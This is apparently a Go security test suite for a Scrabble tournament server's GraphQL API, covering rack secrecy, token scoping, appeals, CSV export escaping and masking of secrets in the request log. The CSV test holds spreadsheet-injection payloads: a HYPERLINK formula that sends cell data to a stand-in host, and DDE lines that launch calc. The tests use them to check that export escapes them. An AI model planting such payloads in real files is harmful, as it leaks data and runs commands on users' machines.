package main

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Issue 28: what an attacker in the hall (a player with a phone and a
// laptop) learns over loopback, one test per finding.

// TestSecurite_ChevaletsClassiquesPendantLeJeu (issue 28 item 6): while a
// classique match is played, neither the public zip of the tournament nor
// the public score sheet tell a rack: the zip holds the GCG of ended
// matches only, the letters of an exchange are for the arbiters of the
// table (and the director) until the end; once the game is over both are
// public.
func TestSecurite_ChevaletsClassiquesPendantLeJeu(t *testing.T) {
	data := t.TempDir()
	director := apiToken(t, data, "--role", "director")
	arbitre := apiToken(t, data, "--role", "arbiter", "--tables", "1-1", "--tournoi", "C1")
	autreTable := apiToken(t, data, "--role", "arbiter", "--tables", "2-9", "--tournoi", "C1")
	s := startAPIServer(t, data)
	defer s.stop()
	match, m := premierMatchClassique(t, s, director)
	for _, j := range m.Joueurs {
		s.gql(arbitre, `mutation($m: ID!, $j: ID!) { tirerLettres(match:$m, joueur:$j) { `+matchCouvertureFields+` } }`,
			map[string]any{"m": match, "j": j}).into(t, "tirerLettres", &m)
	}
	s.gql(arbitre, `mutation($m: ID!, $j: ID!, $w: String!) { placerMot(match:$m, joueur:$j, reference:"H2", mot:$w) { `+matchCouvertureFields+` } }`,
		map[string]any{"m": match, "j": m.Joueurs[0], "w": strings.ReplaceAll(m.Chevalets[0], "?", "e")}).into(t, "placerMot", &m)
	s.gql(arbitre, `mutation($m: ID!, $j: ID!) { tirerLettres(match:$m, joueur:$j) { `+matchCouvertureFields+` } }`,
		map[string]any{"m": match, "j": m.Joueurs[0]}).into(t, "tirerLettres", &m)
	rejetees := m.Chevalets[1][:3]
	s.gql(arbitre, `mutation($m: ID!, $j: ID!, $r: String!) { echanger(match:$m, joueur:$j, rejetees:$r) { version } }`,
		map[string]any{"m": match, "j": m.Joueurs[1], "r": rejetees}).into(t, "echanger", &m)

	lettresEchangees := func(jeton string) *string {
		var v struct {
			Journal []struct{ Genre, Chevalet, Lettres *string }
		}
		s.gql(jeton, `query($m: ID!) { matchClassique(id:$m) { journal { genre chevalet lettres } } }`, map[string]any{"m": match}).
			into(t, "matchClassique", &v)
		require.NotEmpty(t, v.Journal)
		last := v.Journal[len(v.Journal)-1]
		require.Equal(t, "echange", *last.Genre)
		return last.Lettres
	}
	gcgDuZip := func() []string {
		var z apiExport
		s.gql("", `{ exportArchive(tournoi: "C1", format: zip) { contenu } }`, nil).into(t, "exportArchive", &z)
		raw, err := base64.StdEncoding.DecodeString(z.Contenu)
		require.NoError(t, err)
		lu, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
		require.NoError(t, err)
		var noms []string
		for _, f := range lu.File {
			noms = append(noms, f.Name)
		}
		return noms
	}

	assert.Equal(t, []string{"C1.csv", "C1.json"}, gcgDuZip(), "a match in play is not in the public zip")
	assert.Nil(t, lettresEchangees(""), "the public does not see the letters exchanged")
	assert.Nil(t, lettresEchangees(autreTable), "nor does the arbiter of another table")
	for _, jeton := range []string{arbitre, director} {
		l := lettresEchangees(jeton)
		require.NotNil(t, l, "the arbiter of the table and the director see them")
		assert.Equal(t, rejetees, *l)
	}

	s.gql(arbitre, `mutation($m: ID!, $j: ID!) { demanderAbandon(match:$m, joueur:$j) { version } }`,
		map[string]any{"m": match, "j": m.Joueurs[0]}).into(t, "demanderAbandon", &m)
	s.gql(arbitre, `mutation($m: ID!, $j: ID!) { repondreAbandon(match:$m, joueur:$j, accepte:true) { version } }`,
		map[string]any{"m": match, "j": m.Joueurs[1]}).into(t, "repondreAbandon", &m)
	assert.Equal(t, []string{"C1.csv", "C1.json", "parties/" + match + ".gcg"}, gcgDuZip(), "an ended match is published")
	l := lettresEchangees("")
	require.NotNil(t, l, "public once the game is over")
	assert.Equal(t, rejetees, *l)
}

// TestSecurite_MoteurDansLaPorteeDuJeton (issue 28 item 7): a token limited
// to tournament T1 cannot have the engine compute the top of T2's open coup
// from its public grid and tirage: resoudre and verifierCoup take, from
// such a token, only the position of one of its tournament's games; a
// token without tournament analyses any position.
func TestSecurite_MoteurDansLaPorteeDuJeton(t *testing.T) {
	data := t.TempDir()
	director := apiToken(t, data, "--role", "director")
	directeurT1 := apiToken(t, data, "--role", "director", "--tournoi", "T1")
	commissionT1 := apiToken(t, data, "--role", "commission", "--tournoi", "T1")
	commission := apiToken(t, data, "--role", "commission")
	s := startAPIServer(t, data)
	defer s.stop()
	positions := map[string]map[string]any{}
	for i, tournoi := range []string{"T1", "T2"} {
		partie := tournoi + "-1"
		require.Empty(t, s.gql(director, `mutation($t: ID!) { creerTournoi(id:$t, nom:"Open", homologue: false) { id } }`, map[string]any{"t": tournoi}).Errors)
		require.Empty(t, s.gql(director, `mutation($t: ID!, $j: JoueurInput!) { inscrireJoueur(tournoi:$t, joueur:$j) { version } }`,
			map[string]any{"t": tournoi, "j": map[string]any{"licence": "L" + tournoi, "nom": "Joueur", "table": 1}}).Errors)
		require.Empty(t, s.gql(director, `mutation($t: ID!, $p: ID!, $g: Int!) { creerPartie(tournoi:$t, partie:$p, config:{source: logiciel, graine: $g}) { version } }`,
			map[string]any{"t": tournoi, "p": partie, "g": 7 + i}).Errors)
		var p apiPartie
		s.gql(director, `mutation($p: ID!) { tirer(partie:$p) { tirage grille } }`, map[string]any{"p": partie}).into(t, "tirer", &p)
		positions[tournoi] = map[string]any{"grille": p.Grille, "tirage": p.Tirage}
	}
	assert.Equal(t, "FORBIDDEN", s.gql(directeurT1, `{ partie(id:"T2-1") { solutions { mot } } }`, nil).code())

	const resoudre = `query($p: PositionInput!) { resoudre(position:$p) { scoreTop } }`
	const verifier = `query($p: PositionInput!) { verifierCoup(position:$p, mot:"LE", reference:"H8") { jouable } }`
	cas := []struct {
		qui, jeton, tournoi, code string
	}{
		{"T1's director, T2's open coup", directeurT1, "T2", "FORBIDDEN"},
		{"T1's commission, T2's open coup", commissionT1, "T2", "FORBIDDEN"},
		{"T1's director, T1's open coup", directeurT1, "T1", ""},
		{"T1's commission, T1's open coup", commissionT1, "T1", ""},
		{"the director without tournament", director, "T2", ""},
		{"the commission without tournament", commission, "T2", ""},
	}
	for _, c := range cas {
		for champ, q := range map[string]string{"resoudre": resoudre, "verifierCoup": verifier} {
			out := s.gql(c.jeton, q, map[string]any{"p": positions[c.tournoi]})
			assert.Equal(t, c.code, out.code(), "%s: %s", c.qui, champ)
			if c.code != "" {
				assert.Nil(t, out.Data, "%s: %s answers nothing", c.qui, champ)
			}
		}
	}
	// Another position than a game's (here T2's with a letter of the rack
	// turned into a joker, which finds T2's top too) is the same refusal.
	autre := map[string]any{"grille": positions["T2"]["grille"], "tirage": "?" + positions["T2"]["tirage"].(string)[1:]}
	out := s.gql(commissionT1, resoudre, map[string]any{"p": autre})
	assert.Equal(t, "FORBIDDEN", out.code())
	assert.Contains(t, out.Errors[0].Message, "T1")
}

// TestSecurite_PropositionClassiqueDansSonTournoi (issue 28 item 9): the
// unpublished pairing proposal of classique tournament C1 is for C1's
// director, arbiters and commission: a token of C2 gets FORBIDDEN and no
// proposal, over HTTP and in rondeChangee.
func TestSecurite_PropositionClassiqueDansSonTournoi(t *testing.T) {
	data := t.TempDir()
	director := apiToken(t, data, "--role", "director")
	arbitreC1 := apiToken(t, data, "--role", "arbiter", "--tournoi", "C1")
	horsTournoi := map[string]string{
		"C2's director":   apiToken(t, data, "--role", "director", "--tournoi", "C2"),
		"C2's arbiter":    apiToken(t, data, "--role", "arbiter", "--tournoi", "C2"),
		"C2's commission": apiToken(t, data, "--role", "commission", "--tournoi", "C2"),
	}
	s := startAPIServer(t, data)
	defer s.stop()
	require.Empty(t, s.gql(director, `mutation { ouvrirTournoiClassique(id:"C1", nom:"Open classique", rondes:1) { version } }`, nil).Errors)
	for _, j := range []string{"P1", "P2"} {
		require.Empty(t, s.gql(director, `mutation($j: ID!, $n: String!) { inscrireClassique(tournoi:"C1", joueur:$j, nom:$n) { version } }`, map[string]any{"j": j, "n": "Joueur " + j}).Errors)
	}
	require.Empty(t, s.gql(director, `mutation { etablirTetesDeSerie(tournoi:"C1") { version } }`, nil).Errors)
	require.Empty(t, s.gql(director, `mutation { proposerRonde(tournoi:"C1", methode: initial_by_cote) { version } }`, nil).Errors)

	const lire = `{ tournoiClassique(id:"C1") { proposition { methode tables { premier second } } } }`
	var vu struct{ Proposition *struct{ Methode string } }
	s.gql(arbitreC1, lire, nil).into(t, "tournoiClassique", &vu)
	require.NotNil(t, vu.Proposition, "C1's arbiter sees the proposal")
	for qui, jeton := range horsTournoi {
		out := s.gql(jeton, lire, nil)
		assert.Equal(t, "FORBIDDEN", out.code(), qui)
		assert.NotContains(t, string(out.Data["tournoiClassique"]), "initial_by_cote", qui)

		sub := s.subscribe(jeton, `subscription { rondeChangee(tournoi:"C1") { proposition { methode } } }`, nil)
		livre := sub.answer(t, "1")
		require.NotEmpty(t, livre.Errors, "%s: rondeChangee", qui)
		assert.Equal(t, "FORBIDDEN", livre.code(), "%s: rondeChangee", qui)
		assert.NotContains(t, string(livre.Data["rondeChangee"]), "initial_by_cote", "%s: rondeChangee", qui)
	}
}

// TestSecurite_AppelsDansLaPorteeDuJeton (issue 28 item 10): an appeal is
// read by the commission and the director of its tournament and by the
// arbiters of the appellant's table; to anyone else (an arbiter of another
// table, a token of another tournament) it answers as an id nobody used:
// appel is null, appels leaves it out, a commission command is
// APPEAL_NOT_FOUND with the same message.
func TestSecurite_AppelsDansLaPorteeDuJeton(t *testing.T) {
	data := t.TempDir()
	director := apiToken(t, data, "--role", "director")
	arbitreTable1 := apiToken(t, data, "--role", "arbiter", "--tables", "1-1", "--tournoi", "T1")
	arbitreTable2 := apiToken(t, data, "--role", "arbiter", "--tables", "2-2", "--tournoi", "T1")
	commissionT1 := apiToken(t, data, "--role", "commission", "--tournoi", "T1")
	arbitreT2 := apiToken(t, data, "--role", "arbiter", "--tournoi", "T2")
	commissionT2 := apiToken(t, data, "--role", "commission", "--tournoi", "T2")
	s := startAPIServer(t, data)
	defer s.stop()
	p := nouvelleAppelPartie(t, s, director, "T1")
	t2 := nouvelleAppelPartie(t, s, director, "T2")
	depot := avec(p.depot("AP1", "L2"), "motif", "le mot ZYTHUMS est au lexique")
	require.Empty(t, s.gql(arbitreTable2, deposerAppelMutation, map[string]any{"a": depot}).Errors)

	const lire = `query($id: ID!) { appel(tournoi:"T1", id:$id) { id revision niveaux { motif } } }`
	const lister = `{ appels(tournoi:"T1") { id niveaux { motif } } }`
	for qui, jeton := range map[string]string{"the arbiter of L2's table": arbitreTable2, "T1's commission": commissionT1, "the director": director} {
		var a struct{ ID string }
		s.gql(jeton, lire, map[string]any{"id": "AP1"}).into(t, "appel", &a)
		assert.Equal(t, "AP1", a.ID, qui)
		var l []struct{ ID string }
		s.gql(jeton, lister, nil).into(t, "appels", &l)
		assert.Len(t, l, 1, qui)
	}

	compose := `mutation($a: ID!) { composerCommission(tournoi:"T1", appel:$a, president:"M1", membres:["M1","M2","M3"], revision: 1) { statut } }`
	inconnu := s.gql(commissionT1, compose, map[string]any{"a": "AP9"})
	require.Equal(t, "APPEAL_NOT_FOUND", inconnu.code())
	for qui, jeton := range map[string]string{"the arbiter of table 1": arbitreTable1, "T2's arbiter": arbitreT2, "T2's commission": commissionT2} {
		for _, id := range []string{"AP1", "AP9"} {
			out := s.gql(jeton, lire, map[string]any{"id": id})
			assert.Empty(t, out.Errors, "%s reads %s", qui, id)
			assert.Equal(t, "null", string(out.Data["appel"]), "%s reads %s as an unknown appeal", qui, id)
		}
		if jeton == arbitreTable1 {
			var l []struct{ ID string }
			s.gql(jeton, lister, nil).into(t, "appels", &l)
			assert.Empty(t, l, "%s lists none of table 2's appeals", qui)
		}
	}
	hors := s.gql(commissionT2, compose, map[string]any{"a": "AP1"})
	assert.Equal(t, inconnu.code(), hors.code(), "T2's commission on T1's appeal")
	require.NotEmpty(t, hors.Errors)
	assert.Equal(t, strings.ReplaceAll(inconnu.Errors[0].Message, "AP9", "AP1"), hors.Errors[0].Message)
	assert.NotContains(t, hors.Errors[0].Extensions, "version")

	// Ids belong to their tournament (TestSecurite_IdentifiantDAppelParTournoi):
	// T2 filing under AP1 files its own appeal; filing it again in T2 is
	// refused without its revision.
	require.Empty(t, s.gql(commissionT2, deposerAppelMutation, map[string]any{"a": t2.depot("AP1", "L2")}).Errors)
	deja := s.gql(commissionT2, deposerAppelMutation, map[string]any{"a": t2.depot("AP1", "L2")})
	assert.Equal(t, "ALREADY_EXISTS", deja.code())
	require.NotEmpty(t, deja.Errors)
	assert.NotContains(t, deja.Errors[0].Extensions, "version")
}

// TestSecurite_ArriveeEnRetardDUnInscrit (issue 28 item 12): a late
// arrival (§6.2) is a player registered in the game's tournament: another
// tournament's player or a made-up licence is refused (UNKNOWN_PLAYER, in
// French) and nothing is written; a registered player is added.
func TestSecurite_ArriveeEnRetardDUnInscrit(t *testing.T) {
	s, director, _ := salleT1(t, 2)
	require.Empty(t, s.gql(director, `mutation { creerTournoi(id:"T2", nom:"Autre", homologue: false) { id } }`, nil).Errors)
	require.Empty(t, s.gql(director, `mutation { inscrireJoueur(tournoi:"T2", joueur:{licence:"L9", nom:"Joueur 9", table:1}) { version } }`, nil).Errors)
	require.Empty(t, s.gql(director, `mutation { creerPartie(tournoi:"T1", partie:"T1-1", config:{source: logiciel, graine: 7}) { version } }`, nil).Errors)
	require.Empty(t, s.gql(director, `mutation { tirer(partie:"T1-1") { version } }`, nil).Errors)
	// L3 registers once the game has started.
	require.Empty(t, s.gql(director, `mutation { inscrireJoueur(tournoi:"T1", joueur:{licence:"L3", nom:"Joueur 3", table:3}) { version } }`, nil).Errors)
	version := func() int {
		var p apiPartie
		s.gql(director, `{ partie(id:"T1-1") { version } }`, nil).into(t, "partie", &p)
		return p.Version
	}
	avant := version()
	const arrivee = `mutation($l: ID!) { arriveeEnRetard(partie:"T1-1", licence:$l) { version } }`
	for qui, licence := range map[string]string{"T2's player": "L9", "a made-up licence": "INVENTE"} {
		out := s.gql(director, arrivee, map[string]any{"l": licence})
		assert.Equal(t, "UNKNOWN_PLAYER", out.code(), qui)
		require.NotEmpty(t, out.Errors, qui)
		assert.Contains(t, out.Errors[0].Message, "n'est pas inscrit", qui)
		assert.Equal(t, avant, version(), "%s: nothing written", qui)
	}
	var p apiPartie
	s.gql(director, arrivee, map[string]any{"l": "L3"}).into(t, "arriveeEnRetard", &p)
	assert.Equal(t, avant+1, p.Version, "a registered player arrives late")
}

// TestSecurite_CSVSansFormule (issue 28 item 13): the archive's CSV never
// hands a spreadsheet a cell it would run (a formula or a DDE command: a
// text starting with = + - @, a tab or a carriage return): such a cell is
// written after an apostrophe, which the import takes off, so that export,
// import into another server and export again give the same file byte for
// byte and the same names.
func TestSecurite_CSVSansFormule(t *testing.T) {
	noms := map[string]string{
		"L1": `=HYPERLINK("http://exemple.invalid/?v="&A1;"Dupont")`,
		"L2": `+cmd|' /C calc'!A0`,
		"L3": `@SOMME(1+1)*cmd|' /C calc'!A0`,
		"L4": `-2+3+cmd|' /C calc'!A0`,
	}
	var brut bytes.Buffer
	brut.WriteString("tournoi;nom_tournoi;date;ronde;match;licence;nom;club;adversaire;score;score_adversaire;points_de_match;cote_avant;cote_apres\n")
	cw := csv.NewWriter(&brut)
	cw.Comma = ';'
	ligne := func(match, licence, adversaire string, score, contre, pm int) {
		require.NoError(t, cw.Write([]string{"open-2020", "=1+1", "2020-01-04", "1", match, licence, noms[licence], "@club", adversaire,
			strconv.Itoa(score), strconv.Itoa(contre), strconv.Itoa(pm), "1500", "1500"}))
	}
	ligne("m1", "L1", "L2", 420, 380, 3)
	ligne("m1", "L2", "L1", 380, 420, 1)
	ligne("m2", "L3", "L4", 400, 300, 3)
	ligne("m2", "L4", "L3", 300, 400, 1)
	cw.Flush()

	const importer = `mutation($c: String!) { importerArchive(fichier: "open.csv", contenu: $c) { lignes } }`
	const exporter = `{ exportArchive(tournoi: "open-2020", format: csv) { contenu } }`
	exporte := func(contenu string) (string, map[string]string) {
		data := t.TempDir()
		federation := apiToken(t, data, "--role", "director")
		s := startAPIServer(t, data)
		defer s.stop()
		require.Empty(t, s.gql(federation, importer, map[string]any{"c": contenu}).Errors)
		var e apiExport
		require.Eventually(t, func() bool {
			res := s.gql("", exporter, nil)
			return res.code() == "" && json.Unmarshal(res.Data["exportArchive"], &e) == nil
		}, 10*time.Second, 20*time.Millisecond)
		lus := map[string]string{}
		for licence := range noms {
			var j struct{ Nom string }
			s.gql("", `query($id: ID!) { joueur(id: $id) { nom } }`, map[string]any{"id": licence}).into(t, "joueur", &j)
			lus[licence] = j.Nom
		}
		return e.Contenu, lus
	}

	premier, lus := exporte(brut.String())
	assert.Equal(t, noms, lus, "the names as imported")
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(premier, "\ufeff")))
	cr.Comma = ';'
	lignes, err := cr.ReadAll()
	require.NoError(t, err)
	require.Len(t, lignes, 5)
	for _, l := range lignes[1:] {
		for _, cellule := range l {
			require.NotEmpty(t, cellule)
			assert.NotContains(t, "=+-@\t\r", cellule[:1], "cell %q would run in a spreadsheet", cellule)
		}
	}
	assert.Equal(t, "'=1+1", lignes[1][1])

	second, relus := exporte(premier)
	assert.Equal(t, premier, second, "export, import, export: the same file")
	assert.Equal(t, noms, relus, "and the same names")
}

// TestSecurite_JournalMasqueToutSecret (issue 28 item 14): the request log
// masks anything shaped like a token secret ("arb_" and 43 characters of
// base64url, domain/acces.Emettre), whatever the parameter's name
// (jwt, bearer, auth, a malformed je%ton), in the path, and percent-encoded.
func TestSecurite_JournalMasqueToutSecret(t *testing.T) {
	data := t.TempDir()
	secret := apiToken(t, data, "--role", "director")
	require.Regexp(t, `^arb_[A-Za-z0-9_-]{43}$`, secret)
	logs := &e2eJournal{}
	s := startAPIServerWith(t, data, slog.New(slog.NewJSONHandler(logs, nil)))
	defer s.stop()

	encode := fmt.Sprintf("arb%%5F%%%02X%s", secret[4], secret[5:])
	corps := secret[4:] // the secret without its prefix gives it away as well
	for _, path := range []string{
		"/affichage/T1-1?jwt=" + secret,
		"/affichage/T1-1?bearer=" + secret + "&serie=A",
		"/affichage/T1-1?auth=" + secret,
		"/affichage/T1-1?je%ton=" + secret,
		"/affichage/" + secret,
		"/affichage/T1-1?x=" + encode,
		"/affichage/T1-1?cle=" + corps + "&serie=FIN",
	} {
		resp, err := http.Get(s.url + path)
		require.NoError(t, err)
		resp.Body.Close()
	}
	require.Eventually(t, func() bool { return strings.Contains(logs.String(), "serie=FIN") }, 5*time.Second, 10*time.Millisecond,
		"every request is logged: %s", logs)
	journal := logs.String()
	for _, fuite := range []string{secret, encode, corps} {
		assert.NotContains(t, journal, fuite[len(fuite)-40:], "no secret, nor its last 40 characters")
	}
	assert.Contains(t, journal, "/affichage/T1-1?bearer=REDACTED&serie=A")
	assert.Contains(t, journal, `"uri":"/affichage/REDACTED"`)
}
